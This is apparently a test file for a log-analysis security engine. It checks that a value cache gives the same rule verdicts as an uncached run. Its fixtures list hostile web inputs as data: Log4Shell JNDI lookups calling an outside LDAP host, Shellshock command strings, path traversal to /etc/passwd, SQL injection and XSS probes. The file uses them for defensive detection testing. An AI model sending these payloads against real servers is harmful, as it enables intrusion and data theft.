// The field value memo (src/rules/value-memo.ts) must give exactly the answers the rules give without it: checked
// on the table itself (bounded, copies, collisions evict) and on the engine, whose long-lived memo is compared with a
// fresh engine for every record (nothing remembered) on repeated, random, hostile and colliding values.
import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import fc from 'fast-check';
import { BUILTIN_RULES } from '../../src/rules/builtin/index.js';
import { compileRules } from '../../src/rules/compile.js';
import { createEngine } from '../../src/rules/engine.js';
import { DEEP, MAX_VALUE_LENGTH, SLOTS, UNSET, ValueMemo, fingerprint, keepable, spot } from '../../src/rules/value-memo.js';
import type { Answers } from '../../src/rules/value-memo.js';
import type { LogRecord, SecurityEvent } from '../../src/types.js';
import { rec } from './rec.js';

// Same length (40), and the same characters where spot() reads (the last four, 36-39, then 35, 25, 15 and 5): one
// spot, two values that alternate evict each other. The first is a probe (`/.env?`), the second nothing.
const PROBE_URL = '/.env?' + 'a'.repeat(34);
const CLEAN_URL = '/.Xnv?' + 'a'.repeat(34);

function memo(active = true): ValueMemo {
  const m = new ValueMemo('url');
  m.slot();
  m.active = active;
  return m;
}

/** The answers of a value seen a second time (a value is kept on its second sighting), from two records. */
function twice(m: ValueMemo, fields: Record<string, string>): Answers | null {
  m.answers({ ...fields });
  return m.answers({ ...fields });
}

describe('ValueMemo', () => {
  test('the same text in another record finds the same answers; another text gets empty ones', () => {
    const m = memo();
    const a = twice(m, { url: '/index.html' })!;
    const fresh = [...a];
    a[0] = false;
    assert.deepEqual(fresh, [UNSET]);
    assert.equal(m.answers({ url: '/index.html' }), a);
    assert.equal(m.value, '/index.html');
    assert.deepEqual(twice(m, { url: '/other' }), [UNSET]);
  });

  test('the kept copy has the text of the value, whatever it holds, in the table and deepened', () => {
    // Slices of one line, as a parser gives them.
    const line = 'x "' + ['', '-', '\ud800/lone', '/\udfff\ud83d', 'q"uote\\back\u0000nul\n\u2028', '\u00e9t\u00e9 /caf\u00e9'.repeat(9), '/a'.repeat(128)].join('" "') + '"';
    const m = memo();
    for (const v of line.slice(3, -1).split('" "')) {
      assert.notEqual(twice(m, { url: v }), null, JSON.stringify(v));
      assert.equal(m.value, v);
    }
    // CLEAN_URL's twin (same length and spot) is kept in the deep map.
    const deep = memo();
    deep.deepen();
    twice(deep, { url: CLEAN_URL });
    const twin = '/\ud800\udc00' + CLEAN_URL.slice(3);
    assert.equal(spot(twin), spot(CLEAN_URL));
    assert.notEqual(deep.answers({ url: twin }), null);
    assert.equal(deep.value, twin);
    assert.equal(deep.answers({ url: CLEAN_URL }) === deep.answers({ url: twin }), false);
  });

  test('a record judged NOTHING is not remembered, and asking for its answers after finds the kept ones', () => {
    const m = new ValueMemo('url');
    m.slot(true, () => true); // counted, and its QuickNo says NO_MATCH for any value
    m.active = true;
    m.answers({ url: '/a' });
    m.answers({ url: '/a' }); // kept now
    assert.equal(m.nothingKeptIn({ url: '/a' }, '/a'), true); // the verdict is made: NOTHING
    const f = { url: '/a' };
    assert.equal(m.nothingKeptIn(f, '/a'), true);
    assert.equal(m.lastFields, null, 'a record no rule of the field runs for is not kept alive');
    const kept = m.answers(f)!;
    assert.deepEqual([...kept], [false]);
    assert.equal(m.lastFields, f);
    assert.equal(m.value, '/a');
    assert.equal(m.size, 1);
    const g = { url: '/b' }; // not kept (first sighting): remembered, its QuickNos answer
    assert.equal(m.nothingKeptIn(g, '/b'), true);
    assert.equal(m.lastFields, g);
    assert.equal(m.answers(g), null, 'the same record: not a second sighting');
  });

  test('a value is kept on its second sighting, and one seen once evicts nothing', () => {
    const m = memo();
    assert.equal(m.answers({ url: '/once' }), null, 'first sighting: the rules answer without the memo');
    const a = m.answers({ url: '/once' })!;
    assert.deepEqual([...a], [UNSET]);
    a[0] = false;
    // Another value on the same spot, with another fingerprint.
    let other = '';
    for (let i = 0; other === ''; i++) {
      const v = `/x${i}`;
      if (spot(v) === spot('/once') && fingerprint(v) !== fingerprint('/once')) other = v;
    }
    assert.equal(m.answers({ url: other }), null);
    assert.equal(m.answers({ url: '/once' }), a, 'still kept, with its answers');
    assert.equal(m.answers({ url: other }), null, 'found since: its second chance turns the other value away');
    assert.deepEqual(m.answers({ url: other }), [UNSET], 'not found since: the other value replaces it');
    assert.deepEqual(twice(m, { url: '/once' }), [UNSET], 'evicted: its answers are gone');
  });

  test('nothing is kept when the memo is off, the field is absent or the value too long', () => {
    assert.equal(memo(false).answers({ url: '/a' }), null);
    assert.equal(memo().answers({ agent: 'curl/8.5.0' }), null);
    assert.equal(memo().answers({ url: '/' + 'x'.repeat(MAX_VALUE_LENGTH) }), null);
    assert.equal(twice(memo(), { url: '/' + 'x'.repeat(MAX_VALUE_LENGTH) }), null);
    assert.notEqual(twice(memo(), { url: '/' + 'x'.repeat(MAX_VALUE_LENGTH - 1) }), null);
  });

  test('an empty spot matches no value: an empty memo holds nothing, and empty or NUL values are kept like others', () => {
    assert.equal(memo().size, 0);
    for (const url of ['', '\u0000', '\u0000'.repeat(MAX_VALUE_LENGTH)]) {
      const m = memo();
      assert.deepEqual(twice(m, { url }), [UNSET], 'kept by its second sighting');
      assert.equal(m.size, 1);
    }
  });

  test('two values on one spot evict each other: each comes back with empty answers', () => {
    assert.equal(spot(PROBE_URL), spot(CLEAN_URL));
    const m = memo();
    twice(m, { url: PROBE_URL })![0] = undefined;
    assert.deepEqual(twice(m, { url: CLEAN_URL }), [UNSET]);
    assert.deepEqual(twice(m, { url: PROBE_URL }), [UNSET]);
  });

  test('it holds at most SLOTS values, whatever it is given', () => {
    const m = memo();
    for (let i = 0; i < 3 * SLOTS; i++) twice(m, { url: `/item/${i}?q=${i * 7}` });
    assert.ok(m.size <= SLOTS, String(m.size));
    assert.ok(m.size > SLOTS / 2, String(m.size));
  });

  test('nothingMatches: yes only once every counted slot answered NO_MATCH for this value', () => {
    const m = new ValueMemo('url');
    m.slot(true);
    m.slot(false); // a rule with other conditions: not counted
    m.slot(true);
    m.active = true;
    const a = twice(m, { url: '/index.html' })!;
    assert.equal(m.nothingMatches({ url: '/index.html' }), false, 'new value: nothing answered yet');
    a[0] = false;
    assert.equal(m.nothingMatches({ url: '/index.html' }), false, 'slot 2 not answered yet');
    a[1] = undefined; // a match of the uncounted rule does not matter
    a[2] = false;
    assert.equal(m.nothingMatches({ url: '/index.html' }), true);
    assert.equal(m.nothingMatches({ url: '/index.html' }), true, 'kept');
    const b = twice(m, { url: '/.env' })!;
    b[0] = undefined;
    b[2] = false;
    assert.equal(m.nothingMatches({ url: '/.env' }), false, 'a counted rule matched');
    assert.equal(m.nothingMatches({ ip: '203.0.113.9' }), true, 'no value: every rule reading the field alone says no');
    assert.equal(m.nothingMatches({ url: '/' + 'x'.repeat(MAX_VALUE_LENGTH) }), false, 'a value not kept, no QuickNo');
  });

  test('nothingMatches: QuickNos judge a value the memo does not know, and fill the slots of one it keeps', () => {
    const m = new ValueMemo('url');
    const asked: string[] = [];
    m.slot(true, (raw) => (asked.push(raw), !raw.includes('.env')));
    m.slot(true, (raw) => !raw.includes('sms'));
    m.slot(false); // not counted: its QuickNo would not matter
    m.active = true;
    assert.equal(m.nothingMatches({ url: '/index.html' }), true, 'first sighting: both QuickNos say no');
    assert.deepEqual(asked, ['/index.html']);
    assert.equal(m.nothingMatches({ url: '/.env' }), false, 'the first QuickNo cannot say no');
    assert.equal(m.nothingMatches({ url: '/sms/send' }), false, 'the second cannot');
    assert.equal(m.nothingMatches({ url: '/x'.repeat(MAX_VALUE_LENGTH) }), true, 'a value too long to keep');
    const a = twice(m, { url: '/index.html' })!; // kept now, nothing answered yet
    assert.deepEqual(a.slice(0, 2), [null, null]);
    assert.equal(m.nothingMatches({ url: '/index.html' }), true);
    assert.deepEqual(a.slice(0, 2), [false, false], 'proven NO_MATCH, kept');
    const b = twice(m, { url: '/sms/send' })!;
    assert.equal(m.nothingMatches({ url: '/sms/send' }), false);
    assert.equal(b[0], false, 'the first slot was proven before the second said it did not know');
    assert.equal(b[1], null, 'the second is left for its rule');
  });

  test('nothingMatches: a memo that keeps nothing judges by its QuickNos alone, only when every counted slot has one', () => {
    const m = new ValueMemo('referer');
    m.slot(true, (raw) => !raw.includes('()'));
    assert.equal(m.judges, true);
    assert.equal(m.nothingMatches({ referer: 'https://example.com/' }), true);
    assert.equal(m.nothingMatches({ referer: '() { :; }; /bin/id' }), false);
    assert.equal(m.nothingMatches({}), true, 'no referer');
    const n = new ValueMemo('referer');
    n.slot(true, (raw) => !raw.includes('()'));
    n.slot(true);
    assert.equal(n.judges, false, 'a counted slot without QuickNo');
  });

  test('nothingMatches: a value evicted by another on its spot starts unknown again', () => {
    const m = new ValueMemo('url');
    m.slot(true);
    m.active = true;
    twice(m, { url: CLEAN_URL })![0] = false;
    assert.equal(m.nothingMatches({ url: CLEAN_URL }), true);
    twice(m, { url: PROBE_URL })![0] = undefined;
    assert.equal(m.nothingMatches({ url: PROBE_URL }), false);
    assert.equal(m.nothingMatches({ url: CLEAN_URL }), false, 'evicted: its answers are gone');
  });

  test('nothingMatches: a slot counted later makes every value unknown again', () => {
    const m = new ValueMemo('agent');
    m.slot(true);
    m.active = true;
    twice(m, { agent: 'curl/8.5.0' })![0] = false;
    assert.equal(m.nothingMatches({ agent: 'curl/8.5.0' }), true);
    m.slot(true);
    assert.equal(m.nothingMatches({ agent: 'curl/8.5.0' }), false);
    assert.equal(m.judges, true);
    m.active = false;
    assert.equal(m.judges, false);
  });

  test('an answers array only ever belongs to one value, through collisions, second chances and evictions', () => {
    // Values of one fingerprint (they differ only where spot() does not read: 1-4, 6-14...) and a few others.
    const colliding = ['/.env?', '/.Xnv?', '/.e1v?', '/.eZZ?'].map((p) => p + 'a'.repeat(34));
    assert.equal(new Set(colliding.map(fingerprint)).size, 1);
    const values = [...colliding, '/index.html', '/a', '/b?x=1'];
    fc.assert(fc.property(fc.array(fc.nat(values.length - 1), { maxLength: 60 }), (picks) => {
      const m = memo();
      assertOwnAnswers(m, values, picks);
    }), { numRuns: 500 });
  });

  test('deepened: values of one fingerprint and length are all kept, each with answers of its own', () => {
    // A family: one fingerprint, one length (as User-Agents that differ in version digits).
    const family = ['/.env?', '/.Xnv?', '/.e1v?', '/.eZZ?'].map((p) => p + 'a'.repeat(34));
    assert.equal(new Set(family.map(fingerprint)).size, 1);
    const m = memo();
    m.deepen();
    const first = twice(m, { url: family[0]! })!; // on its spot
    assert.notEqual(first, null);
    const others = family.slice(1).map((v) => m.answers({ url: v }));
    for (const a of others) assert.notEqual(a, null, 'kept at once, beside the spot');
    assert.equal(new Set([first, ...others]).size, 4);
    family.forEach((v, i) => assert.equal(m.answers({ url: v }), [first, ...others][i], v));
    assert.equal(m.answers({ url: `/x${'b'.repeat(38)}` }), null, 'another length: the spot rules as before');
    // DEEP more of the family: the oldest kept beside the spot are replaced, and a replaced value asked again gets
    // answers of its own, not those of the value that took its place.
    const many = Array.from({ length: DEEP }, (_, i) => `/z${String(i).padStart(3, '0')}?` + 'a'.repeat(34));
    const kept = many.map((v) => m.answers({ url: v }));
    assert.equal(m.size, 1 + DEEP, "the spot and a full deep table");
    const again = m.answers({ url: family[1]! });
    assert.ok(again !== null && !kept.includes(again) && !others.includes(again));
    assert.ok(m.size <= SLOTS + DEEP);
  });

  test('deepened: an answers array only ever belongs to one value, through collisions and replacements', () => {
    const family = Array.from({ length: 40 }, (_, i) => `/.e${String(i).padStart(2, '0')}?` + 'a'.repeat(34));
    const values = [...family, '/index.html', '/a'];
    assert.equal(new Set([...family, '/z000?' + 'a'.repeat(34)].map(fingerprint)).size, 1);
    fc.assert(fc.property(fc.array(fc.nat(values.length - 1), { maxLength: 80 }), fc.nat(DEEP), (picks, churn) => {
      const m = memo();
      m.deepen();
      // Fill the deep table with other values of the family first, so that the picks replace and are replaced.
      twice(m, { url: family[0]! });
      for (let i = 0; i < churn; i++) assert.notEqual(m.answers({ url: `/z${String(i).padStart(3, '0')}?` + 'a'.repeat(34) }), null);
      assertOwnAnswers(m, values, picks);
      assert.ok(m.size <= SLOTS + DEEP);
    }), { numRuns: 200 });
  });

  test('kept groups are copies with the same values', () => {
    const line = '203.0.113.9 GET /sms/send?phone=13888888888';
    const groups = { phone: line.slice(32), ip: undefined };
    const kept = keepable(groups);
    assert.deepEqual({ ...kept }, { phone: '13888888888', ip: undefined });
    assert.notEqual(kept, groups);
    assert.equal(keepable(false), false);
    assert.equal(keepable(undefined), undefined);
  });
});

const rules = compileRules(BUILTIN_RULES);

function access(url: string, agent: string, referer: string, method = 'GET', status = '200'): LogRecord {
  const fields: Record<string, string> = { ip: '203.0.113.9', method, url, status };
  if (agent !== '-') fields.agent = agent;
  if (referer !== '-') fields.referer = referer;
  // The field values are slices of a longer line, as a parser gives them.
  const line = `${url}\u0000${agent}\u0000${referer}`;
  fields.url = line.slice(0, url.length);
  return rec({ format: 'access', host: null, message: `${method} ${url} HTTP/1.1 ${status}`, fields });
}

/** What an engine yields for each record, in order: the rule, type and values of every event. */
function run(engine: ReturnType<typeof createEngine>, records: readonly LogRecord[]): string[] {
  const out: string[] = [];
  for (const r of records) {
    const events: SecurityEvent[] = [];
    engine(r, (e) => events.push(e));
    out.push(events.map((e) => `${e.rule}:${e.type}:${e.source.ip}:${e.user}:${e.phone}`).join(' '));
  }
  return out;
}

const URLS = [
  '/', '/index.html', '/static/app.js', '/.env', '/.git/config', '/search?q=%27%20or%201=1--', '/wp-login.php',
  '/api/v1/sms/send?phone=13888888888', '/api/send-code?mobile=%2B86%20139%201234%205678', '/register',
  '/download?file=../../etc/passwd', '/?x=${jndi:ldap://203.0.113.66/a}', '/q?s=%3Cscript%3Ealert(1)', PROBE_URL,
  CLEAN_URL, '/' + 'a'.repeat(MAX_VALUE_LENGTH + 10) + '/.env', "/x?id=1' union select 1,2--",
];
const AGENTS = ['-', 'Mozilla/5.0', 'sqlmap/1.7.2#stable', '() { :; }; /bin/id', '${jndi:ldap://x/a}', '../../etc/passwd', 'curl/8.5.0'];
const REFERERS = ['-', 'https://example.com/', '${jNdI:ldap://x.example.net/c}', '() { ignored; }; echo'];

describe('the engine with memos answers as without', () => {
  test('repeated, colliding and long values, and POSTs that are sign-ups', () => {
    const records = [
      access(PROBE_URL, 'Mozilla/5.0', '-'), access(CLEAN_URL, 'Mozilla/5.0', '-'), access(PROBE_URL, 'sqlmap/1.7.2', '-'),
      access('/register', 'Mozilla/5.0', '-', 'POST', '201'), access('/register', 'Mozilla/5.0', '-', 'GET', '200'),
      access('/register', 'Mozilla/5.0', '-', 'POST', '201'), access('/api/v1/sms/send?phone=13888888888', '-', '-'),
      access('/api/v1/sms/send?phone=13888888888', '-', '-'),
    ];
    assert.deepEqual(run(createEngine({ rules }), records), [
      'web.probe:web.probe:203.0.113.9:null:null',
      '',
      'web.scanner:web.scanner:203.0.113.9:null:null web.probe:web.probe:203.0.113.9:null:null',
      'web.registration:account.registration:203.0.113.9:null:null',
      '',
      'web.registration:account.registration:203.0.113.9:null:null',
      'web.otp_request:auth.otp_request:203.0.113.9:null:13888888888',
      'web.otp_request:auth.otp_request:203.0.113.9:null:13888888888',
    ]);
  });

  test('a value known to match nothing, then evicted by one that matches, then back', () => {
    const records = [
      access(CLEAN_URL, 'curl/8.5.0', '-'), access(CLEAN_URL, 'curl/8.5.0', '-'), access(PROBE_URL, 'curl/8.5.0', '-'),
      access(CLEAN_URL, 'sqlmap/1.7.2', '-'), access(PROBE_URL, 'curl/8.5.0', '-'), access(PROBE_URL, 'curl/8.5.0', '-'),
      access(CLEAN_URL, 'curl/8.5.0', '${jndi:ldap://x/a}'), access(CLEAN_URL, '../../etc/passwd', '-'),
    ];
    assert.deepEqual(run(createEngine({ rules }), records), [
      '', '', 'web.probe:web.probe:203.0.113.9:null:null', 'web.scanner:web.scanner:203.0.113.9:null:null',
      'web.probe:web.probe:203.0.113.9:null:null', 'web.probe:web.probe:203.0.113.9:null:null',
      'web.jndi_header:web.jndi:203.0.113.9:null:null', 'web.traversal_header:web.traversal:203.0.113.9:null:null',
    ]);
  });

  test('on random sequences of known, random and cut values, one engine = a fresh engine per record', () => {
    const piece = (pool: readonly string[]): fc.Arbitrary<string> => fc.oneof(
      fc.constantFrom(...pool),
      fc.string({ maxLength: 30 }),
      fc.tuple(fc.constantFrom(...pool), fc.nat()).map(([s, n]) => s.slice(0, n % (s.length + 1))),
    );
    const record = fc.tuple(piece(URLS), piece(AGENTS), piece(REFERERS), fc.constantFrom('GET', 'POST'), fc.constantFrom('200', '201', '401', '403'))
      .map(([u, a, r, m, s]) => access(u, a, r, m, s));
    fc.assert(fc.property(fc.array(record, { minLength: 1, maxLength: 40 }), (records) => {
      const kept = run(createEngine({ rules }), records);
      const fresh = records.map((r) => run(createEngine({ rules }), [r])[0]!);
      assert.deepEqual(kept, fresh);
    }), { numRuns: 60 });
  });
});

/** Asks the memo for `values[k]` for each pick: an answers array handed out must only ever belong to one value. */
function assertOwnAnswers(m: ValueMemo, values: readonly string[], picks: readonly number[]): void {
  const owner = new Map<Answers, string>();
  for (const k of picks) {
    const v = values[k]!;
    const a = m.answers({ url: v });
    if (a === null) continue;
    assert.equal(owner.get(a) ?? v, v, 'answers kept for another value');
    owner.set(a, v);
    assert.equal(m.value, v);
  }
}
